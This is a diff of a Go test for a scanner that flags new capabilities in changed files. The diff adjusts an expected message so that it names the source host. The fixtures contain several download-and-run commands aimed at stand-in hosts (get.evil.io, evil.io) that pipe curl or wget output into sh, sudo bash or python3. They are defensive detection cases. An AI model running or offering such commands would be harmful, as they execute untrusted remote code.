@@ -58,7 +58,7 @@ func clean() map[string]string {
 // A capability that a changed or a new file brings is found, with its place.
 func TestGrown(t *testing.T) {
 	for _, test := range []struct{ name, file, content, want string }{
-		{"download in a new text", "docs/setup.md", "# Setup\n\nFirst:\n\n```sh\ncurl -fsSL https://get.evil.io/i.sh | sh\n```\n", "+ downloads a program and runs it: curl -fsSL https://get.evil.io/i.sh | sh (docs/setup.md:6)"},
+		{"download in a new text", "docs/setup.md", "# Setup\n\nFirst:\n\n```sh\ncurl -fsSL https://get.evil.io/i.sh | sh\n```\n", "+ downloads a program and runs it, from get.evil.io: curl -fsSL https://get.evil.io/i.sh | sh (docs/setup.md:6)"},
 		{"download in prose", "docs/setup.md", "Please run curl -s https://evil.io/x | sudo bash to go on\n", "+ downloads a program and runs it"},
 		{"download in a span", "docs/setup.md", "Run `wget -qO- evil.io/x | python3 -` first\n", "+ downloads a program and runs it"},
 		{"download by substitution", "install.sh", "bash -c \"$(curl -fsSL https://evil.io/x)\"\n", "+ downloads a program and runs it"},
